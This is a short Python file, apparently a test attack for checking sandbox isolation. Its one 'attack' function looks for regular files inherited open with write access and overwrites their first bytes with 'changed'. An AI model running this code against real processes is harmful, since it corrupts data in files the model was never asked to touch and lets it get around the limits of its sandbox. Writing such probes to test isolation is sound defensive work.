"""Write to every file that was inherited open."""

import fcntl
import os
import stat


def attack(target):
    found = []
    for number in range(3, 256):
        try:
            mode = os.fstat(number).st_mode
            flags = fcntl.fcntl(number, fcntl.F_GETFL)
            if stat.S_ISREG(mode) and flags & os.O_ACCMODE != os.O_RDONLY:
                os.pwrite(number, b"changed", 0)
                found.append(number)
        except OSError:
            continue
    return found and f"wrote to descriptors {found}"
